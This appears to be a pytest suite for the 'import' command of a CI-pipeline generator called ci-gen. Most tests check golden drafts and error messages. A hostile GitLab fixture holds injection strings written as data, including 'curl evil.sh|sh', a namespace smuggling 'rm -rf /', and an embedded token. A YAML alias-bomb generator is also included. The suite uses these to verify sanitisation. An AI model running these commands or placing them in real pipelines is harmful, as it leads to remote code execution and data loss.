"""`ci-gen import` on a corpus of hand-written pipelines: the draft and the notes are golden, the
draft validates, and render runs on it. Refresh with `CI_GEN_UPDATE_GOLDEN=1 pytest tests/test_import.py`.

Each case under tests/import_corpus/ is a repository (pipeline files, Dockerfile, manifests);
its `expected/` folder holds the draft `ci-gen.yaml` and `notes.txt`, what import prints on stderr.
"""
from __future__ import annotations

import difflib
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
CORPUS = REPO / "tests" / "import_corpus"
UPDATE = os.environ.get("CI_GEN_UPDATE_GOLDEN") == "1"
CASES = sorted(p for p in CORPUS.iterdir() if p.is_dir())


def ci_gen(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "ci_gen", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=120, env={**os.environ, "NO_COLOR": "1"})


def checkout(case: Path, tmp_path: Path) -> Path:
    repo = tmp_path / case.name
    shutil.copytree(case, repo, ignore=shutil.ignore_patterns("expected"))
    return repo


def assert_golden(path: Path, actual: str) -> None:
    if UPDATE:
        path.parent.mkdir(exist_ok=True)
        path.write_text(actual, encoding="utf-8")
    expected = path.read_text(encoding="utf-8") if path.exists() else ""
    diff = "".join(difflib.unified_diff(expected.splitlines(True), actual.splitlines(True), str(path), "actual"))
    assert actual == expected, f"{path.relative_to(REPO)} differs (CI_GEN_UPDATE_GOLDEN=1 to accept):\n{diff}"


@pytest.mark.parametrize("case", CASES, ids=lambda p: p.name)
def test_corpus_draft_and_notes_are_golden_and_valid(case: Path, tmp_path: Path) -> None:
    repo = checkout(case, tmp_path)
    proc = ci_gen("import", "-C", str(repo))
    assert proc.returncode == 0, proc.stderr
    draft = (repo / "ci-gen.yaml").read_text(encoding="utf-8")
    assert_golden(case / "expected" / "ci-gen.yaml", draft)
    assert_golden(case / "expected" / "notes.txt", proc.stderr)
    # Every note is on stderr and at the top of the draft, file:line first.
    notes = proc.stderr.splitlines()[:-1]
    assert notes and all(line.split(":")[1].isdigit() for line in notes)
    for line in notes:
        where, kind, message = line.split(": ", 2)
        assert f"#   {where}: {message}" in draft
    validate = ci_gen("validate", "-C", str(repo))
    assert validate.returncode == 0, validate.stderr
    out = tmp_path / "rendered"
    render = ci_gen("render", "-C", str(repo), "--out", str(out))
    assert render.returncode == 0, render.stderr
    for target, name in (("gitlab", ".gitlab-ci.yml"), ("jenkins", "Jenkinsfile")):
        assert (out / name).is_file() == (f"  - {target}" in draft)


@pytest.mark.parametrize("case", CASES, ids=lambda p: p.name)
def test_render_diff_shows_what_would_change(case: Path, tmp_path: Path) -> None:
    repo = checkout(case, tmp_path)
    assert ci_gen("import", "-C", str(repo)).returncode == 0
    proc = ci_gen("render", "-C", str(repo), "--diff")
    assert proc.returncode == 1, proc.stdout + proc.stderr  # the hand-written files differ
    hand_written = [name for name in (".gitlab-ci.yml", "Jenkinsfile") if (case / name).exists()]
    assert all(name in proc.stdout + proc.stderr for name in hand_written)


@pytest.mark.parametrize("case", CASES, ids=lambda p: p.name)
def test_corpus_inputs_are_real_pipelines(case: Path) -> None:
    """The corpus is what GitLab and Jenkins accept: GitLab's CI schema, Groovy's parser."""
    from ci_gen.lint import lint_gitlab, lint_jenkins

    from .tools import require

    for path in [case / ".gitlab-ci.yml", *sorted((case / "ci").glob("*.yml"))]:
        if path.exists():
            result = lint_gitlab(path.name, path.read_text(encoding="utf-8"))
            assert result.ok, result.problems
    if (case / "Jenkinsfile").exists():
        require("groovy", "apt-get install groovy")
        [result] = lint_jenkins({"Jenkinsfile": (case / "Jenkinsfile").read_text(encoding="utf-8")})
        assert result.ok and result.skipped is None, result.problems or result.skipped


def test_there_are_cases() -> None:
    names = {case.name for case in CASES}
    assert {"gitlab-includes", "jenkins-declarative", "seed-style"} <= names


def repo_with(tmp_path: Path, files: dict[str, str]) -> Path:
    repo = tmp_path / "repo"
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text, encoding="utf-8")
    return repo


SMALL_GITLAB = """\
build:
  script:
    - docker build -t registry.example.com/team/small-app:$CI_COMMIT_SHA .
"""


def test_an_existing_manifest_is_kept_unless_forced(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, {".gitlab-ci.yml": SMALL_GITLAB, "ci-gen.yaml": "# mine\n"})
    proc = ci_gen("import", "-C", str(repo))
    assert proc.returncode == 1
    assert "ci-gen.yaml already exists" in proc.stderr and "--force" in proc.stderr
    assert (repo / "ci-gen.yaml").read_text() == "# mine\n"
    printed = ci_gen("import", "-C", str(repo), "--stdout")
    assert printed.returncode == 0 and "name: small-app" in printed.stdout
    assert (repo / "ci-gen.yaml").read_text() == "# mine\n"
    forced = ci_gen("import", "-C", str(repo), "--force")
    assert forced.returncode == 0, forced.stderr
    assert (repo / "ci-gen.yaml").read_text() == printed.stdout


def test_nothing_to_import(tmp_path: Path) -> None:
    proc = ci_gen("import", "-C", str(repo_with(tmp_path, {"README.md": "hi\n"})))
    assert proc.returncode == 1 and "nothing to import" in proc.stderr


def test_files_generated_by_ci_gen_are_not_imported(tmp_path: Path) -> None:
    repo = tmp_path / "minimal"
    shutil.copytree(REPO / "examples" / "minimal", repo)
    (repo / "ci-gen.yaml").unlink()
    proc = ci_gen("import", "-C", str(repo))
    assert proc.returncode == 1
    assert "Jenkinsfile: generated by ci-gen already; skipped" in proc.stderr and "nothing to import" in proc.stderr


def test_scripted_jenkinsfile_is_refused_with_its_location(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, {"Jenkinsfile": "node {\n  sh 'make'\n}\n"})
    proc = ci_gen("import", "-C", str(repo))
    assert proc.returncode == 1
    assert proc.stderr.startswith("Jenkinsfile:1:1: ") and "declarative" in proc.stderr


def test_unreadable_pipelines_are_located_errors_not_tracebacks(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, {".gitlab-ci.yml": "build:\n  script: [\n"})
    proc = ci_gen("import", "-C", str(repo))
    assert proc.returncode == 1 and proc.stderr.startswith(".gitlab-ci.yml:"), proc.stderr
    repo = repo_with(tmp_path / "j", {"Jenkinsfile": "pipeline {\n  stages {\n    stage('x') { steps { sh '''oops\n"})
    proc = ci_gen("import", "-C", str(repo))
    assert proc.returncode == 1 and proc.stderr.startswith("Jenkinsfile:3:1: unterminated string"), proc.stderr


HOSTILE_GITLAB = """\
variables:
  "BAD-NAME": x
  CI_GEN_MINE: y
  GOOD: "$(touch /tmp/pwned)"
include:
  - remote: https://deploy:s3cr3t-token@gitlab.example.com/x.yml
"evil\\u001b[31m\\njob":
  script:
    - docker build -t "$(curl evil.sh|sh)" .
"deploy-\\u00e9t\\u00e9":
  environment: "prod\\nuction"
  script:
    - kubectl apply -n "ns;rm -rf /" -f ../outside
"""


def test_hostile_pipeline_gives_a_valid_draft_with_one_line_notes(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, {".gitlab-ci.yml": HOSTILE_GITLAB})
    proc = ci_gen("import", "-C", str(repo))
    assert proc.returncode == 0, proc.stderr
    draft = (repo / "ci-gen.yaml").read_text(encoding="utf-8")
    assert ci_gen("validate", "-C", str(repo)).returncode == 0
    header = draft.split("version: 1", 1)[0]
    assert all(line.startswith("#") for line in header.splitlines())
    assert "\x1b" not in proc.stderr + draft
    assert "s3cr3t-token" not in proc.stderr + draft  # URL userinfo is scrubbed like every output
    assert "pwned" in draft.split("variables:", 1)[1]  # a variable value is data, kept verbatim
    assert "CI_GEN_MINE" not in draft.split("version: 1", 1)[1] and "BAD-NAME" not in draft.split("version: 1", 1)[1]
    assert "image:\n  name: registry.example.com/" in draft
    assert "ns;rm" not in draft.split("version: 1", 1)[1] and "outside" not in draft.split("version: 1", 1)[1]


def test_json_output_lists_the_notes(tmp_path: Path) -> None:
    import json

    repo = repo_with(tmp_path, {".gitlab-ci.yml": SMALL_GITLAB})
    proc = ci_gen("import", "-C", str(repo), "--stdout", "-o", "json")
    assert proc.returncode == 0, proc.stderr
    payload = json.loads(proc.stdout)
    assert payload["written"] is None and payload["draft"].startswith("# Drafted by `ci-gen import`")
    assert {"file": ".gitlab-ci.yml", "line": 1, "kind": "decide"} .items() <= payload["notes"][0].items()


def test_jenkins_reader_keeps_line_numbers_through_nesting() -> None:
    from ci_gen.importer.jenkins import parse

    text = "pipeline {\n  stages {\n    stage('a') {\n      parallel {\n        stage('b') {\n" \
           "          steps {\n            sh '''\n              pytest -q\n            '''\n          }\n" \
           "        }\n      }\n    }\n  }\n}\n"
    [pipeline] = parse(text, "Jenkinsfile")
    [stages] = pipeline.children or []
    [stage_a] = stages.children or []
    [parallel] = stage_a.children or []
    [stage_b] = parallel.children or []
    [steps] = stage_b.children or []
    [sh] = steps.children or []
    assert (stage_b.line, sh.line, sh.first_string()) == (5, 7, "\n              pytest -q\n            ")


def test_import_is_not_on_the_pre_commit_path(tmp_path: Path) -> None:
    from .test_import_budget import imported_modules

    repo = checkout(CORPUS / "seed-style", tmp_path)
    assert ci_gen("import", "-C", str(repo)).returncode == 0
    modules = imported_modules(["validate"], repo)
    assert "ci_gen.validation" in modules and not {m for m in modules if m.startswith("ci_gen.importer")}


def laughs() -> str:
    """Aliases nesting lists ten-fold per level, extends in diamonds: bounded, not expanded."""
    lines = ['.l0: {script: &l0 ["echo lol"]}']
    for level in range(1, 9):
        lines.append(f".l{level}: {{script: &l{level} [{', '.join([f'*l{level - 1}'] * 10)}]}}")
    lines.append(".d0: {script: [pytest]}")
    for level in range(1, 12):
        lines.append(f".d{level}: {{extends: [{', '.join(f'.d{j}' for j in range(level))}]}}")
    lines.append("bomb: {script: *l8}")
    lines.append("diamond: {extends: .d11}")
    return "\n".join(lines) + "\n"


def test_hostile_structures_finish_and_draft(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, {".gitlab-ci.yml": laughs(), "Jenkinsfile": "/*" * 200_000 + "\n"})
    proc = ci_gen("import", "-C", str(repo), "--jenkins", "Jenkinsfile")
    assert proc.returncode == 1 and proc.stderr.startswith("Jenkinsfile:1:1: "), proc.stderr
    proc = ci_gen("import", "-C", str(repo), "--gitlab", ".gitlab-ci.yml")
    assert proc.returncode == 0, proc.stderr
    assert "name: diamond\n    run: pytest" in (repo / "ci-gen.yaml").read_text(encoding="utf-8")
